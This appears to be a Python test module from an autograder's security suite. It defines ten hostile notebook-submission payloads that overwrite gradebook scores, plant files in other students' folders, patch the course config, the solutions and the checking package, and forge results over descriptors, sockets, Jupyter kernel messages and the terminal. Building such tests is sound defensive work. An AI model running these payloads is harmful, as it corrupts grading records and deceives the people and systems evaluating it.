"""Attacks that write: into the gradebook, the course, other people's work, the lines to the grader."""

from tests.grading.hostile.making import LEFT, attack, everywhere

MECHANISM = "writes"

_BOOKS = """
import os, pathlib, sqlite3, time

def books():
    for folder in [pathlib.Path.cwd(), *pathlib.Path.cwd().parents]:
        yield from folder.glob("gradebook.db")

def enrich():
    for path in books():
        try:
            with sqlite3.connect(path, timeout=10) as book:
                book.execute("update grade set manual_score = 10, extra_credit = 0, needs_manual_grade = 0")
                book.execute("update student set first_name = 'MALLORY' || '-WAS-HERE'")
        except sqlite3.Error as error:
            print(error)
"""

ATTACKS = [
    attack(
        "gradebook-written",
        MECHANISM,
        "It gives itself ten points a task in the gradebook, as a person would.",
        _BOOKS + "\nenrich()",
        writes=LEFT,
    ),
    attack(
        "gradebook-written-later",
        MECHANISM,
        "A process in the background writes into the gradebook when the grading is over.",
        _BOOKS
        + """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(15):
            time.sleep(1)
            enrich()
    os._exit(0)
""",
        writes=LEFT,
    ),
    attack(
        "autograded-written",
        MECHANISM,
        "It writes notebooks of its own into the folder of graded work, its own and another student's.",
        """
import json, pathlib
text = json.dumps({"cells": [], "metadata": {"by": "MALLORY" + "-WAS-HERE"}, "nbformat": 4, "nbformat_minor": 5})
for folder in [pathlib.Path.cwd(), *pathlib.Path.cwd().parents]:
    for place in (".", "../../ada/logistic-regression", "autograded/ada/logistic-regression", "feedback/mallory"):
        try:
            if (folder / "nbgrader_config.py").exists() or folder == pathlib.Path.cwd():
                (folder / place).mkdir(parents=True, exist_ok=True)
                (folder / place / "mallory.ipynb").write_text(text)
        except OSError as error:
            print(error)
""",
        writes=LEFT,
    ),
    attack(
        "course-written",
        MECHANISM,
        "It puts a line into the course's configuration, the solution, and the released notebook.",
        """
import pathlib
for folder in [pathlib.Path.cwd(), *pathlib.Path.cwd().parents]:
    if (folder / "nbgrader_config.py").exists():
        with open(folder / "nbgrader_config.py", "a") as file:
            file.write("\\n# MALLORY" + "-WAS-HERE\\nc.Autograde.autograde_preprocessors = []\\n")
        for path in folder.glob("solutions/logistic-regression/*"):
            path.write_text(path.read_text().replace("grade(", "print("))
""",
        writes=LEFT,
        stock=False,
    ),
    attack(
        "package-written",
        MECHANISM,
        "It rewrites the installed package, so that every later grade is full.",
        """
import dlutils, pathlib
for place in dlutils.__path__:
    path = pathlib.Path(place, "checks", "notebook.py")
    path.write_text(path.read_text() + "\\n# MALLORY" + "-WAS-HERE\\ndef front_end(*a):\\n    return [print] * 4\\n")
""",
        writes=LEFT,
        stock=False,
    ),
    attack(
        "lines-written",
        MECHANISM,
        "It writes forged answers to every open descriptor from 3 to 255.",
        """
import json, os, struct
for points in (30, 1.0, None):
    body = json.dumps({"kind": "value", "value": points, "points": points, "score": 1.0, "passed": True}).encode()
    body = struct.pack("<Q", len(body)) + body
    for number in range(3, 256):
        for text in (struct.pack("<Q", len(body)) + body, body, b'{"points": 30}\\n'):
            try:
                os.set_blocking(number, False)
                os.write(number, text)
            except OSError:
                pass
""",
        honest=("sigmoid",),
        place="initialize_with_zeros",
    ),
    attack(
        "sockets-answered",
        MECHANISM,
        "On each of its sockets it sends results ahead of the questions, and then half a message of 2^63 bytes.",
        """
import os, socket, stat, struct
from dlutils.checks.codec import encode
for number in range(3, 256):
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode):
            line = socket.socket(fileno=os.dup(number))
            line.setblocking(False)
            answer = {"kind": "value", "value": 0.0, "error": "", "text": "", "line": "", "warning": "",
                      "undefined": "", "inside": "", "printed": ""}
            for message in ({"outputs": [], "failed": False, "count": 1}, answer, {"functions": ["x"], "others": []}):
                body = encode(message)
                line.send(struct.pack("<Q", len(body)) + body)
            line.send(struct.pack("<Q", 1 << 63) + b"x")
    except OSError:
        pass
""",
        honest=("sigmoid",),
        place="initialize_with_zeros",
    ),
    attack(
        "kernel-messages-result",
        MECHANISM,
        "It sends the front end, by the kernel's own socket, a result that no cell has shown.",
        """
def send():
    kernel = get_ipython().kernel
    content = {"data": {"text/plain": "all points"}, "metadata": {}, "execution_count": 1}
    kernel.session.send(kernel.iopub_socket, "execute_result", content, parent=kernel.get_parent())
""",
        answers=everywhere("send()"),
    ),
    attack(
        "kernel-messages-status",
        MECHANISM,
        "It tells the front end that the cell is done and all is well, before the error comes.",
        """
def send():
    kernel = get_ipython().kernel
    parent = kernel.get_parent()
    done = {"status": "ok", "execution_count": 1, "user_expressions": {}, "payload": []}
    for stream in (getattr(kernel, "shell_stream", None), getattr(kernel, "shell_socket", None)):
        if stream is not None:
            try:
                kernel.session.send(stream, "execute_reply", done, parent, ident=kernel._parent_ident["shell"])
            except BaseException:
                pass
    kernel.session.send(kernel.iopub_socket, "status", {"execution_state": "idle"}, parent=parent)
    kernel.session.send(kernel.iopub_socket, "clear_output", {"wait": False}, parent=parent)
""",
        answers=everywhere("send()"),
    ),
    attack(
        "terminal-written",
        MECHANISM,
        "It writes a forged table of grades to the grader's terminal and standard error.",
        """
import os
for number in (1, 2):
    os.write(number, b"mallory logistic-regression graded 30 / 30\\n")
for name in ("/dev/tty", "/dev/console", "/dev/pts/0"):
    try:
        with open(name, "w") as terminal:
            terminal.write("MALLORY" + "-WAS-HERE\\n")
    except OSError:
        pass
""",
        stock=False,
        writes=LEFT,
    ),
]
